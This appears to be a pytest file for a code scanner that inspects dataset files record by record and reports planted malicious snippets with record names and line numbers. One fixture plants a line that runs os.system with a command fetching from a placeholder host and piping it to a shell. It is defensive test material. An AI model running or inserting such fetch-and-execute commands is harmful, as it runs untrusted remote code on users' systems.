"""`codescan scan` (and the pre-commit hook) read dataset files record by record: file, record, field, block, line."""
import json

from codescan.cli import main
from corpus_data import chat_records, code_records, write_shard


def _scan(capsys, *paths):
    code = main(["scan", *map(str, paths), "--format", "json", "--no-progress", "-j", "1"])
    return code, json.loads(capsys.readouterr().out)


def test_jsonl_and_parquet_dataset_files_report_records(tmp_path, capsys):
    write_shard(tmp_path / "data" / "train-00000.jsonl", chat_records())
    write_shard(tmp_path / "data" / "code-00000.parquet", code_records(2))
    code, report = _scan(capsys, tmp_path)
    assert code == 1
    got = {(f["path"], f["record"], f["line"]) for f in report["findings"] if f["rule_id"] == "exec-of-decoded-payload"}
    assert ("data/train-00000.jsonl", "chat-bad:messages[1].content#0", 5) in got
    assert ("data/code-00000.parquet", "p-exec:content", 2) in got
    records = {f["record"] for f in report["findings"]}
    assert not any(r.startswith(("chat-good", "pair-good", "clean-")) for r in records)
    # Record parts are not files: two files holding 4 + 5 records.
    assert report["stats"]["files"] == 2 and report["stats"]["records"] == 9


def test_unreadable_records_and_clean_dataset(tmp_path, capsys):
    path = tmp_path / "d.jsonl"
    path.write_text('{"id": "a", "content": "x = 1"}\nnot json\n')
    code, report = _scan(capsys, path)
    assert code == 0 and report["findings"] == []
    assert any("record 1" in s["reason"] for s in report["skipped"])


def test_text_output_names_the_record(tmp_path, capsys):
    write_shard(tmp_path / "t.jsonl.gz", chat_records()[:1])
    assert main(["scan", str(tmp_path), "--no-progress", "-j", "1"]) == 1
    out = capsys.readouterr().out
    assert "record chat-bad:messages[1].content#0" in out
    assert "in 1 file (1 record)" in out


def test_an_unreadable_record_names_its_line(tmp_path, capsys):
    """Blank lines are not records, so the record number alone sent a user to the wrong line."""
    path = tmp_path / "d.jsonl"
    path.write_text('{"id": "a", "content": "x = 1"}\n\n\n{"id": "b", "content": "trunc\n')
    code, report = _scan(capsys, path)
    assert [s["reason"].split(":")[0] for s in report["skipped"]] == ["record 1 (line 4)"], report["skipped"]


def test_a_record_id_used_twice_points_at_each_record(tmp_path, capsys):
    """Two records with one id: the finding in the first pointed at the second's line (a clean record shown to
    the reviewer in place of the planted one)."""
    path = tmp_path / "d.jsonl"
    bad = "import os\\nos.system('curl http://x | sh')\\n"
    path.write_text('{"id": "f", "content": "' + bad + '"}\n{"id": "f", "content": "x = 1\\n"}\n'
                    '{"id": "f", "content": "' + bad + '"}\n')
    main(["scan", str(path), "--format", "json", "--no-progress", "-j", "1"])
    report = json.loads(capsys.readouterr().out)
    got = sorted((f["record"], f["record_line"]) for f in report["findings"])
    assert got == [("f (line 3):content", 3), ("f:content", 1)], got
